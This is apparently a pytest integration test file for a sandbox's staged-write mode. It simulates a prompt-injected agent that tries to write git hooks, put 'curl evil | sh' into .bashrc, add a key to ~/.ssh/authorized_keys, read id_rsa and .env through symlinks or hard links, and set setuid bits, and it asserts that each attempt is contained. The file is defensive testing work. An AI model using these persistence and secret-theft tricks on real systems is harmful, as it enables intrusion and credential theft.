"""Staged writes (issue 21), the hostile side: what a prompt-injected agent tries in a staged
run, with real overlays and real processes, judged from the host. The real workspace must be
byte-for-byte unchanged after the run; ``apply`` must refuse (exit 1, naming each path,
applying nothing) what the policy would not let the agent write, a conflict, a symlink that
leads out, a special file; and never write through a symlink planted in the real workspace.
Each refusal has its benign control beside it (a plain change in the same run, applied when
the hostile one is not there; the other tests in ``tests/integration/test_staged_runs.py``)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests._staging_helpers import (
    build_staged_probe,
    capgate,
    changes,
    snapshot,
    staged,
    staging_dirs,
    statuses,
)
from tests.conftest import SECRET
from tests.integration._soft_helpers import PY, launcher_messages, write_policy


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "a.txt").write_text("alpha\n")
    (ws / "sub").mkdir()
    (ws / "sub" / "s.txt").write_text("s\n")
    (ws / ".env").write_text(SECRET)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "v.txt").write_text("victim\n")
    (ws / "tools").mkdir()
    probe = build_staged_probe(ws / "tools")  # (the view holds the workspace, not the test's temp dir)
    return {"ws": ws, "home": home, "victim": victim, "probe": probe, "tmp": tmp_path}


def _run(world: dict[str, Path], *actions: str, options: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    before = snapshot(world["ws"])
    done = staged(world["ws"], world["home"], [str(world["probe"]), *actions], *options)
    assert snapshot(world["ws"]) == before, "the real workspace changed during a staged run"
    return done


def _refused(world: dict[str, Path], *args: str) -> str:
    """``capgate apply`` refuses and applies nothing; return its message."""
    before = snapshot(world["ws"])
    done = capgate(world["ws"], world["home"], "apply", *args)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "nothing was applied" in done.stderr
    assert snapshot(world["ws"]) == before
    return done.stderr


def test_git_hooks_are_unwritable_inside_and_refused_at_apply(world: dict[str, Path]) -> None:
    ws = world["ws"]
    (ws / ".git").mkdir()
    (ws / "output" / ".git" / "hooks").mkdir(parents=True)
    w = str(ws)
    done = _run(world, "write", f"{w}/output/.git/hooks/pre-commit", "evil",   # exists: read-only inside
                "mkdir", f"{w}/.git/hooks", "write", f"{w}/.git/hooks/post-checkout", "evil",  # new: staged
                "write", f"{w}/src/ok.txt", "ok")
    lines = done.stdout.splitlines()
    assert lines[0] == "write ERR EROFS"
    assert lines[1:] == ["mkdir OK", "write OK", "write OK"]
    said = " ".join(launcher_messages(done.stderr))
    assert "fs.write  " + str(ws / ".git/hooks/post-checkout") in said  # named at exit, in the summary
    assert "apply will refuse 2 of these changes" in said
    message = _refused(world)
    assert ".git/hooks/post-checkout" in message and ".git/hooks:" in message
    assert not (ws / "src" / "ok.txt").exists()
    # control: the benign change alone applies
    assert capgate(ws, world["home"], "apply", "src/ok.txt").returncode == 0
    assert (ws / "src" / "ok.txt").read_text() == "ok"


def test_bashrc_and_a_rename_onto_it_are_refused_at_apply(world: dict[str, Path]) -> None:
    ws = world["ws"]
    w = str(ws)
    _run(world, "write", f"{w}/.bashrc", "curl evil | sh", "write", f"{w}/src/x", "x",
         "rename", f"{w}/src/x", f"{w}/sub/.profile")
    data = changes(ws, world["home"])
    assert statuses(data) == {".bashrc": "A", "sub/.profile": "A"}
    message = _refused(world)
    assert ".bashrc: mandatory denyWrite" in message and "sub/.profile: mandatory denyWrite" in message


def test_deny_write_paths_stay_unwritable_also_as_new_files_and_renames(world: dict[str, Path]) -> None:
    ws = world["ws"]
    (ws / "protected").mkdir()
    (ws / "protected" / "p.txt").write_text("p\n")
    policy = write_policy(ws, {"filesystem": {"denyWrite": ["protected/", "vendor/"]}})
    w = str(ws)
    done = _run(world, "write", f"{w}/protected/p.txt", "evil", "write", f"{w}/protected/new", "evil",
                "rename", f"{w}/protected", f"{w}/moved", "rename", f"{w}/src/a.txt", f"{w}/protected/a.txt",
                "mkdir", f"{w}/vendor", "write", f"{w}/vendor/v.py", "evil", "write", f"{w}/src/fine", "fine",
                options=("--policy", str(policy)))
    lines = done.stdout.splitlines()
    assert lines[:4] == ["write ERR EROFS", "write ERR EROFS", "rename ERR EBUSY", "rename ERR EXDEV"]
    assert lines[4:] == ["mkdir OK", "write OK", "write OK"]
    message = _refused(world)
    assert "vendor/v.py" in message and "filesystem.denyWrite" in message
    assert (ws / "protected" / "p.txt").read_text() == "p\n"
    assert capgate(ws, world["home"], "apply", "src/fine").returncode == 0  # control


def test_symlink_to_ssh_gives_nothing_and_is_refused_at_apply(world: dict[str, Path]) -> None:
    ws, home = world["ws"], world["home"]
    w = str(ws)
    done = _run(world, "symlink", str(home / ".ssh"), f"{w}/sshdir",
                "write", f"{w}/sshdir/authorized_keys", "ssh-ed25519 evil", "read", f"{w}/sshdir/id_rsa",
                "symlink", "../victim/v.txt", f"{w}/out", "symlink", "src/a.txt", f"{w}/inside")
    assert done.stdout.splitlines() == ["symlink OK", "write ERR ENOENT", "read ERR ENOENT", "symlink OK",
                                        "symlink OK"]
    assert SECRET not in done.stdout + done.stderr
    assert not (home / ".ssh" / "authorized_keys").exists()
    message = _refused(world)
    assert "sshdir: staged symlink points outside the workspace" in message
    assert "out: staged symlink points outside the workspace" in message
    assert "inside:" not in message  # control: a link inside the workspace is fine
    assert capgate(ws, home, "apply", "inside").returncode == 0
    assert os.readlink(ws / "inside") == "src/a.txt"


def test_staged_link_through_a_real_symlink_is_refused(world: dict[str, Path]) -> None:
    ws = world["ws"]
    os.symlink(str(world["victim"]), ws / "r")  # a symlink the repository already had
    _run(world, "symlink", "r/v.txt", f"{ws}/x")
    assert "x: staged symlink its target passes through a symlink" in _refused(world)


def test_symlink_planted_in_the_real_workspace_after_the_run_is_never_followed(world: dict[str, Path]) -> None:
    ws, victim = world["ws"], world["victim"]
    _run(world, "append", f"{ws}/src/a.txt", "more\n")
    (ws / "src" / "a.txt").unlink()
    os.symlink(str(victim / "v.txt"), ws / "src" / "a.txt")  # planted between the run and apply
    assert "staging.conflict" in _refused(world)
    forced = capgate(ws, world["home"], "apply", "--force")
    assert forced.returncode == 0, forced.stderr
    assert (victim / "v.txt").read_text() == "victim\n"  # never written through
    assert not (ws / "src" / "a.txt").is_symlink()
    assert (ws / "src" / "a.txt").read_text() == "alpha\nmore\n"


def test_directory_replaced_by_a_symlink_between_run_and_apply(world: dict[str, Path]) -> None:
    ws, victim = world["ws"], world["victim"]
    _run(world, "write", f"{ws}/sub/new.txt", "new", "append", f"{ws}/sub/s.txt", "more")
    (ws / "sub").rename(ws / "sub.moved")
    os.symlink(str(victim), ws / "sub")
    message = _refused(world)
    assert "sub" in message
    forced = capgate(ws, world["home"], "apply", "--force")
    assert sorted(p.name for p in victim.iterdir()) == ["v.txt"]  # nothing landed in the victim
    assert (victim / "v.txt").read_text() == "victim\n"
    if forced.returncode == 0:  # --force replaces the planted symlink by the run's directory
        assert not (ws / "sub").is_symlink() and (ws / "sub" / "new.txt").read_text() == "new"


def test_file_changed_in_the_workspace_during_the_run_is_a_conflict(world: dict[str, Path]) -> None:
    ws, home = world["ws"], world["home"]
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CAPGATE_", "AGENT_IN", "SOFT_SANDBOX", "XDG_"))}
    env["HOME"] = str(home)
    proc = subprocess.Popen([PY, "-m", "capgate", "run", "--backend", "namespace", "--staged", "--workspace",
                             str(ws), "--", str(world["probe"]), "append", f"{ws}/src/a.txt", "agent\n",
                             "write", f"{ws}/src/b.txt", "b", "sleep", "2"],
                            cwd=ws, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _wait_for_staged(home, "src/b.txt")
        (ws / "src" / "a.txt").write_text("the user's edit\n")  # meanwhile, in the real workspace
        _out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 0, err
    assert "src/a.txt: changed in the workspace since the run began" in _refused(world)
    assert (ws / "src" / "a.txt").read_text() == "the user's edit\n" and not (ws / "src" / "b.txt").exists()
    assert capgate(ws, home, "apply", "src/b.txt").returncode == 0  # control: no conflict there
    forced = capgate(ws, home, "apply", "--force")
    assert forced.returncode == 0, forced.stderr
    assert (ws / "src" / "a.txt").read_text() == "alpha\nagent\n"


def _wait_for_staged(home: Path, rel: str, timeout: float = 30) -> Path:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for run in staging_dirs(home):
            if (run / "upper" / rel).exists():
                return run
        time.sleep(0.05)
    raise AssertionError(f"{rel} never appeared in a staging directory")


def test_quota_counts_staged_bytes(world: dict[str, Path]) -> None:
    ws = world["ws"]
    policy = write_policy(ws, {"limits": {"outputQuotaMb": 1}})
    child = ("import time\nfor i in range(6):\n    open(f'big{i}', 'wb').write(b'x' * 400_000)\n    time.sleep(0.2)\n"
             "time.sleep(5)\nprint('not stopped')")
    before = snapshot(ws)
    done = staged(ws, world["home"], [PY, "-c", child], "--policy", str(policy))
    assert "not stopped" not in done.stdout
    assert done.returncode != 0
    assert "limit reached: outputQuotaMb" in " ".join(launcher_messages(done.stderr))
    assert snapshot(ws) == before
    assert "limits.outputQuotaMb" in _refused(world)
    # control: the same run under the quota is not stopped
    small = staged(ws, world["home"], [PY, "-c", "open('small', 'wb').write(b'x' * 1000); print('done')"],
                   "--policy", str(policy))
    assert small.returncode == 0 and small.stdout == "done\n"


def test_file_size_limit_holds_for_staged_files(world: dict[str, Path]) -> None:
    ws = world["ws"]
    policy = write_policy(ws, {"limits": {"maxFileSizeMb": 1}})
    done = staged(ws, world["home"], ["/bin/dd", "if=/dev/zero", f"of={ws}/huge", "bs=1M", "count=3"],
                  "--policy", str(policy), "--allow-run", "dd")
    assert done.returncode != 0  # SIGXFSZ / EFBIG at 1 MiB
    (entry,) = changes(ws, world["home"])["changes"]  # type: ignore[misc]
    assert entry["path"] == "huge" and entry["size"] <= 1024 * 1024


def test_planted_hard_links_and_covered_secrets_give_nothing(world: dict[str, Path]) -> None:
    ws, home = world["ws"], world["home"]
    os.link(home / ".ssh" / "id_rsa", ws / "src" / "planted")
    w = str(ws)
    done = _run(world, "read", f"{w}/.env", "link", f"{w}/.env", f"{w}/stolen", "read", f"{w}/src/planted",
                "link", f"{w}/src/planted", f"{w}/stolen2", "read", f"{w}/src/a.txt")
    assert SECRET not in done.stdout
    lines = done.stdout.splitlines()
    assert lines[0] == "read OK []" and lines[2] == "read OK []"
    assert lines[1].startswith("link ERR") and lines[3].startswith("link ERR")
    assert lines[4] == "read OK [alpha ]"  # control
    for run in staging_dirs(home):
        for path in (run / "upper").rglob("*"):
            if path.is_file() and not path.is_symlink():
                assert SECRET not in path.read_text(errors="replace")


def test_special_files_and_setuid_bits_are_refused_at_apply(world: dict[str, Path]) -> None:
    ws = world["ws"]
    _run(world, "mkfifo", f"{ws}/fifo", "write", f"{ws}/suid", "x", "chmod", f"{ws}/suid", "4755")
    message = _refused(world)
    assert "fifo: a special file" in message and "suid: setuid/setgid/sticky" in message


def test_launcher_killed_mid_run_leaves_the_workspace_and_a_listable_staging(world: dict[str, Path]) -> None:
    ws, home = world["ws"], world["home"]
    before = snapshot(ws)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CAPGATE_", "AGENT_IN", "SOFT_SANDBOX", "XDG_"))}
    env["HOME"] = str(home)
    proc = subprocess.Popen([PY, "-m", "capgate", "run", "--backend", "namespace", "--staged", "--workspace",
                             str(ws), "--", str(world["probe"]), "write", f"{ws}/half.txt", "written",
                             "unlink", f"{ws}/sub/s.txt", "sleep", "60"],
                            cwd=ws, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        _wait_for_staged(home, "half.txt")
        time.sleep(0.3)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)
        deadline = time.monotonic() + 20
        while _probe_alive(world["probe"]) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _probe_alive(world["probe"]), "the child outlived its launcher"
    finally:
        proc.kill()
    assert snapshot(ws) == before
    data = changes(ws, home)
    assert data["state"] == "interrupted"
    assert statuses(data) == {"half.txt": "A", "sub/s.txt": "D"}
    gone = capgate(ws, home, "discard")
    assert gone.returncode == 0 and staging_dirs(home) == []
    assert snapshot(ws) == before


def _probe_alive(probe: Path) -> bool:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if os.readlink(f"/proc/{pid}/exe") == str(probe):
                    return True
            except OSError:
                continue
    return False


def test_apply_and_discard_refuse_inside_a_sandbox(world: dict[str, Path]) -> None:
    ws = world["ws"]
    _run(world, "write", f"{ws}/n", "n")
    for command in ("apply", "discard"):
        inside = subprocess.run([sys.executable, "-m", "capgate", command, "--workspace", str(ws)], cwd=ws,
                                env={**os.environ, "HOME": str(world["home"]), "AGENT_IN_SANDBOX": "1"},
                                capture_output=True, text=True)
        assert inside.returncode == 125 and "refused inside a capgate sandbox" in inside.stderr
    assert statuses(changes(ws, world["home"])) == {"n": "A"}
    assert json.loads(capgate(ws, world["home"], "changes", "--json").stdout)["state"] == "finished"


def test_on_exit_apply_refuses_a_denied_change_and_keeps_the_run(world: dict[str, Path]) -> None:
    ws = world["ws"]
    before = snapshot(ws)
    done = staged(ws, world["home"], [str(world["probe"]), "write", f"{ws}/.bashrc", "evil", "write",
                                      f"{ws}/fine", "fine"], "--on-exit", "apply")
    assert done.returncode == 1  # the child's 0, made 1 by the refused apply
    assert "nothing was applied" in done.stderr and ".bashrc: mandatory denyWrite" in done.stderr
    assert snapshot(ws) == before
    assert statuses(changes(ws, world["home"])) == {".bashrc": "A", "fine": "A"}  # kept for review
